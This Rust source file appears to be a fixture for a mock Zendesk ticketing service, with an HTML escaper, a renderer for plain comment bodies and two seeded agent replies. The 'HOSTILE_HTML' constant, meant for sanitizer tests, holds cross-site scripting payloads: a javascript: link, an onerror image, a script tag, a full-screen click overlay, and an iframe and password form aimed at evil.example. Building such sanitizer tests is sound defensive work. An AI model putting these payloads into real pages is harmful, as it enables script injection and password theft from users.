//! Comment HTML: Zendesk's rendering of plain bodies, and the seeded rich and hostile bodies.

/// Escapes text for HTML.
pub fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Renders a plain comment body as Zendesk does: one `<p dir="auto">` per paragraph in a
/// `zd-comment` div, line breaks as `<br>`.
pub fn render_plain(body: &str) -> String {
    let paragraphs: Vec<String> = body
        .split("\n\n")
        .filter(|p| !p.trim().is_empty())
        .map(|p| {
            format!(
                "<p dir=\"auto\">{}</p>",
                escape_html(p.trim()).replace('\n', "<br>")
            )
        })
        .collect();
    format!(
        "<div class=\"zd-comment\" dir=\"auto\">{}</div>",
        paragraphs.concat()
    )
}

/// Request 101's rich agent reply (`%INLINE_IMAGE%` is replaced by the inline image's URL).
pub const RICH_HTML: &str = r#"<div class="zd-comment" dir="auto"><p dir="auto">Hi Ada,</p><p dir="auto">Thanks for the details. To get the export working again:</p><ol><li><p dir="auto">Open <strong>Settings → Data</strong>.</p></li><li><p dir="auto">Run <code>acme export --all</code> from the terminal.</p></li><li><p dir="auto">Check the result against our <a href="https://support.acme.example/hc/en-us/articles/7021" target="_blank" rel="noopener noreferrer">export guide</a>.</p></li></ol><p dir="auto">Here is what the screen should look like:</p><p dir="auto"><img src="%INLINE_IMAGE%" alt="Export settings screen" width="320" height="180"></p><ul><li>The invoice is attached as a PDF.</li><li>The screenshot is attached too.</li></ul><pre><code>export OK: 42 files</code></pre><p dir="auto">Best,<br><b>Sam</b></p></div>"#;

/// Request 108's hostile agent reply, for sanitizer tests.
pub const HOSTILE_HTML: &str = r#"<div class="zd-comment" dir="auto"><p dir="auto">Please check <a href="javascript:alert('xss-link')">this link</a> and the preview below.</p><img src="x" onerror="alert('xss-img')"><script>alert('xss-script')</script><p dir="auto" onclick="alert('xss-click')" style="position:fixed;top:0;left:0;width:100%;height:100%">Click anywhere</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/steal"><input name="password"></form></div>"#;
